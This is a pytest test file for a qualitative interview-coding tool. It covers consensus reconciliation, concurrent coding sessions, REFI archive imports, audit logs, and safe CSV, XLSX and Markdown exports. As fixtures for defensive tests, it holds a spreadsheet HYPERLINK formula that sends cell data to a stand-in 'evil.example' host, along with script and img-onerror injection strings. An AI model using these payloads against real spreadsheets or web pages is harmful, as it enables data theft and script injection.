"""Nobody writes where they don't belong (issue 20), on one person's project file: consensus
never over a person, one coder in two sessions, REFI archives that would misfile or overwrite,
exports that cannot run formulas or HTML, and the audit log."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from conftest import CODEBOOK, dump_db, query

TRANSCRIPT = ("Interviewer: What happened?\n\nKZ-01: Power passed on; the dual power ended.\n\n"
              "Interviewer: And the CSTO?\n\nKZ-01: Troops arrived <script>alert(1)</script> "
              "within days.\n\n"
              "Interviewer: Anything else?\n\nKZ-01: Reforms and a referendum followed.\n")
HOSTILE_MEMO = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


@pytest.fixture
def coded(cli, tmp_path):
    """One transcript (participant segments 2, 4, 6), the study codebook, alice and bob."""
    t = tmp_path / "in" / "KZ-01.txt"
    t.parent.mkdir()
    t.write_text(TRANSCRIPT, encoding="utf-8")
    assert cli("import", t).exit_code == 0
    assert cli("codebook", "load", CODEBOOK).exit_code == 0
    for name, rows in {"alice": [["KZ-01", 2, "power_transfer", HOSTILE_MEMO],
                                 ["KZ-01", 4, "csto_efficacy", "an apostrophe"],
                                 ["KZ-01", 6, "reforms", "@SUM(1+1)"]],
                       "bob": [["KZ-01", 2, "power_transfer", ""],
                               ["KZ-01", 4, "", "-2 is a number?"],
                               ["KZ-01", 6, "reforms", ""]]}.items():
        path = tmp_path / f"{name}.csv"
        with path.open("w", newline="", encoding="utf-8") as f:
            csv.writer(f).writerows([["transcript", "segment", "code", "memo"], *rows])
        result = cli("codings", "import", "--new-coder", path, "--coder", name)
        assert result.exit_code == 0, result.output
    return cli


def codings(db, coder: str) -> list[tuple]:
    return query(str(db), "SELECT s.n, k.code_key FROM coding k JOIN segment s ON "
                          "s.id = k.segment_id JOIN coder c ON c.id = k.coder_id "
                          "WHERE c.name = :c ORDER BY 1, 2", c=coder)


# --- consensus is never written over a person -------------------------------------------------

def test_reconcile_as_a_human_coder_is_refused_and_changes_nothing(coded, db_path):
    result = coded("reconcile", "--coders", "alice,bob", "--as", "bob_not_in_list")
    assert result.exit_code == 0  # a new name becomes a consensus coder
    assert query(str(db_path), "SELECT kind FROM coder WHERE name = 'bob_not_in_list'") == \
        [("consensus",)]
    before = dump_db(db_path)
    result = coded("reconcile", "--coders", "bob,bob_not_in_list", "--as", "alice")
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        "error: --as alice: alice is a human coder (3 codings) — the consensus is written only "
        "to a consensus coder; name an existing consensus coder or a new name, e.g. --as "
        "consensus")
    assert dump_db(db_path) == before


# --- one coder, two sessions ------------------------------------------------------------------

def test_a_second_session_of_the_same_coder_never_overwrites_unseen_or_merges(coded, db_path):
    from coder.coding.session import CodingSession
    from coder.db.engine import open_project

    project = open_project(str(db_path))
    first = CodingSession.open(project, "carol", new_coder=True)
    second = CodingSession.open(project, "carol", new_coder=True)
    assert first.view.turn.n == second.view.turn.n == 2
    first.handle("power_transfer")
    first.handle("")                              # carol:2 = power_transfer
    second.handle("reforms")
    step = second.handle("")                      # based on "not reviewed": refused
    assert step.notes == [
        "KZ-01:2 changed in another session of this coder since it was shown (it was decided "
        "as power_transfer) — your decision was not saved; look at the segment again and decide"]
    assert codings(db_path, "carol") == [(2, "power_transfer")]       # no union
    assert second.view.turn.n == 2 and second.selection == {"power_transfer"}
    second.handle("power_transfer reforms")       # toggles: now {reforms}, based on what it saw
    second.handle("")
    assert codings(db_path, "carol") == [(2, "reforms")]              # applied whole
    project.close()


def test_concurrent_decisions_on_postgresql_are_serialized_and_the_later_one_refused(pg_url):
    """Two sessions of one coder decide the same segment at the same moment on the server:
    the second waits for the first's lock, then is refused — never a union of both."""
    import threading

    from coder.coding.store import get_or_create_coder, record_decision
    from coder.db.engine import open_project
    from coder.errors import ConflictError
    from sqlalchemy import text

    project = open_project(pg_url, create=True)
    with project.write() as conn:
        conn.execute(text("INSERT INTO transcript (id, source, format, sha256, text, imported_at)"
                          " VALUES ('T', 's', 'text', 'x', 'hello', now())"))
        sid = conn.execute(text(
            "INSERT INTO segment (transcript_id, n, speaker, role, text, char_start, char_end) "
            "VALUES ('T', 1, 'P', 'participant', 'hello', 0, 5) RETURNING id")).scalar_one()
        cid = get_or_create_coder(conn, "carol")
    outcome = {}
    first_holds_lock = threading.Event()

    def second() -> None:
        first_holds_lock.wait()
        try:
            with project.write() as conn:
                record_decision(conn, cid, sid, ["b", "c"], based_on=None)
            outcome["second"] = "saved"
        except ConflictError as exc:
            outcome["second"] = str(exc)

    worker = threading.Thread(target=second)
    worker.start()
    with project.write() as conn:
        record_decision(conn, cid, sid, ["a"], based_on=None)
        first_holds_lock.set()
        worker.join(timeout=1.0)
        assert worker.is_alive()   # waiting for our row lock
    worker.join(timeout=30)
    assert outcome["second"].startswith("T:1 changed in another session of this coder")
    assert query(pg_url, "SELECT code_key FROM coding") == [("a",)]
    project.close()


# --- exports that cannot run -----------------------------------------------------------------

def quote_memo(db_path) -> None:
    """alice's memo on segment 4 becomes one that starts with an apostrophe and a formula."""
    import sqlite3

    con = sqlite3.connect(db_path)
    con.execute("UPDATE review SET memo = ? WHERE memo = 'an apostrophe'", ("'=quoted already",))
    con.commit()
    con.close()


def test_csv_export_neutralizes_formulas_and_import_restores_them(coded, db_path, tmp_path):
    quote_memo(db_path)
    out = tmp_path / "export.csv"
    assert coded("codings", "export", "--coder", "alice", "-o", out).exit_code == 0
    cells = [row for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))]
    memos = [row[3] for row in cells[1:]]
    assert memos == ["'" + HOSTILE_MEMO, "''=quoted already", "'@SUM(1+1)"]
    for row in cells:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # the round trip: re-import the export as another coder, memos come back as they were
    assert coded("codings", "import", "--new-coder", out, "--coder", "alice2").exit_code == 0
    assert query(str(db_path), "SELECT r.memo FROM review r JOIN coder c ON c.id = r.coder_id "
                               "JOIN segment s ON s.id = r.segment_id WHERE c.name = 'alice2' "
                               "ORDER BY s.n") == [(HOSTILE_MEMO,), ("'=quoted already",),
                                                   ("@SUM(1+1)",)]


def test_xlsx_cells_are_strings_never_formulas_and_survive_the_round_trip(coded, db_path,
                                                                           tmp_path):
    quote_memo(db_path)
    out = tmp_path / "export.xlsx"
    assert coded("codings", "export", "--coder", "alice", "--format", "xlsx", "-o", out) \
        .exit_code == 0
    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "<f " not in sheet
    assert "HYPERLINK" in sheet
    assert coded("codings", "import", "--new-coder", out, "--coder", "alice3").exit_code == 0
    memos = query(str(db_path), "SELECT r.memo FROM review r JOIN coder c ON c.id = r.coder_id "
                                "JOIN segment s ON s.id = r.segment_id WHERE c.name = 'alice3' "
                                "ORDER BY s.n")
    assert memos == [(HOSTILE_MEMO,), ("'=quoted already",), ("@SUM(1+1)",)]


def test_neutralize_and_restore_are_inverse():
    from coder.spreadsheet_safety import neutralize, restore

    for text in ["=1+1", "+x", "-", "@a", "\tx", "\rx", "'", "''=x", "'plain", "plain", "",
                 "'''@", "a=b"]:
        cell = neutralize(text)
        assert not cell.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) or \
            cell.startswith("'")
        assert restore(cell) == text
    assert neutralize(-2.5) == -2.5


def test_markdown_exports_escape_raw_html_and_comments_cannot_be_closed(coded, tmp_path):
    out = tmp_path / "disagreements.md"
    result = coded("quotes", "--theme", "csto_efficacy", "--coder", "alice", "--format", "md",
                   "-o", out)
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert "<script>" not in text and "&lt;script>alert(1)&lt;/script>" in text
    from coder.render import markdown_comment, to_markdown

    comment = markdown_comment("command: coder x --as 'a --> <img src=x onerror=alert(1)>' --!>")
    assert comment.count("-->") == 1 and comment.endswith(" -->") and "--!>" not in comment
    table = to_markdown(["memo"], [["<img src=x onerror=alert(1)>"]], footer="x --> y")
    assert "<img" not in table and table.count("-->") == 1


# --- REFI archives ------------------------------------------------------------------------

def _rewrite_qde(path: Path, change) -> None:
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    members["project.qde"] = change(members["project.qde"].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)


def test_refi_guid_collisions_are_refused_naming_the_guid(coded, db_path, tmp_path):
    out = tmp_path / "study.qdpx"
    assert coded("export", "qdpx", out).exit_code == 0
    qde = zipfile.ZipFile(out).read("project.qde").decode("utf-8")
    code_guids = re.findall(r'<Code guid="([^"]+)"', qde)
    assert len(code_guids) > 2
    _rewrite_qde(out, lambda x: x.replace(code_guids[1], code_guids[0]))
    fresh = tmp_path / "fresh.db"
    result = coded("import", out, "--db", fresh)
    assert result.exit_code == 1
    assert re.fullmatch(
        rf"error: {re.escape(str(out))}: GUID {code_guids[0]} is used twice: by code '[^']+' "
        r"and by code '[^']+' — each source, code and user needs its own GUID — export the "
        r"project again from the other program, or fix the GUIDs in project.qde",
        result.stderr.strip()), result.stderr
    assert not fresh.exists()


def test_an_archive_user_named_like_a_local_coder_needs_a_mapping(coded, db_path, tmp_path):
    out = tmp_path / "nvivo.qdpx"
    assert coded("export", "qdpx", out).exit_code == 0
    # as NVivo would write it: users have GUIDs of their own; alice there did other work
    qde = zipfile.ZipFile(out).read("project.qde").decode("utf-8")
    (alice,) = re.findall(r'<User guid="([^"]+)" name="alice"', qde)
    _rewrite_qde(out, lambda x: x.replace(alice, "0b1e2f30-1111-4222-8333-944455556666"))
    before = dump_db(db_path)
    result = coded("import", out)
    assert result.exit_code == 1
    assert result.stderr.strip() == (
        f"error: {out}: the archive's user 'alice' has the name of this project's human coder "
        "alice (3 codings), whose work the import would replace — map the user to another "
        "coder with --coder-map alice=alice_nvivo (or --coder-map alice=alice if it is the "
        "same person)")
    assert dump_db(db_path) == before
    mine = codings(db_path, "alice")
    result = coded("import", out, "--coder-map", "alice=alice_nvivo")
    assert result.exit_code == 0, result.output
    assert codings(db_path, "alice") == mine
    assert codings(db_path, "alice_nvivo") == mine  # the archive's alice, under her own name


# --- the audit log on SQLite --------------------------------------------------------------

def test_sqlite_audit_log_records_the_os_user_and_outside_edits(coded, db_path):
    import getpass
    import sqlite3

    entries = json.loads(coded("audit", "--table", "coding", "--format", "json").stdout)
    assert entries and {e["actor"] for e in entries} == {getpass.getuser()}
    assert {e["operation"] for e in entries} == {"INSERT"}
    after = json.loads(entries[-1]["after"])
    assert set(after) >= {"coder_id", "segment_id", "code_key"}
    assert query(str(db_path), "SELECT count(*) FROM audit_context") == [(0,)]
    con = sqlite3.connect(db_path)
    con.execute("DELETE FROM coding WHERE code_key = 'reforms'")
    con.commit()
    con.close()
    deleted = json.loads(coded("audit", "--table", "coding", "--format", "json").stdout)[-2:]
    assert [(e["actor"], e["operation"]) for e in deleted] == \
        [("unknown (outside coder)", "DELETE")] * 2
    assert json.loads(deleted[0]["before"])["code_key"] == "reforms"


def test_team_commands_explain_that_sqlite_has_no_roles(coded):
    result = coded("team", "add", "dave", "--role", "coder")
    assert result.exit_code == 1
    assert result.stderr.startswith("error: team roles need a PostgreSQL project")
